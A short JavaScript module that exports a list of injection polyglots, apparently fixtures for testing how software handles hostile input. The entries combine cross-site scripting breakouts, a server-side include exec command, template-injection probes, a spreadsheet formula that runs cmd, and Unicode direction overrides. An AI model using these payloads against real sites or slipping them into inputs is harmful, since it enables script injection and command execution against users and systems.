/** Texts that mean something in several places at once. */
export const polyglots = [
  'javascript:/*--></title></style></textarea></script><img src=data:, onerror=CALL>',
  '\'"--></style></script><svg onload=CALL>',
  '"\'><!--#exec cmd="id"--><img src=data:, onerror=CALL>${{CALL}}',
  '*/CALL/*\'"><svg/onload=CALL>//`',
  "=cmd|' /C calc'!A0\"><img src=data:, onerror=CALL>",
  '[x](javascript:CALL)"><img src=data:, onerror=CALL>{{7*7}}',
  '</script>--></style>\'"`><details open ontoggle=CALL>',
  '\u202e"><img src=data:, onerror=CALL>\u202c',
  'https://example.com/"onclick="CALL"><img src=data:, onerror=CALL>',
  '${CALL}{{CALL}}<%=CALL%>#{CALL}\';CALL//"><svg onload=CALL>',
];
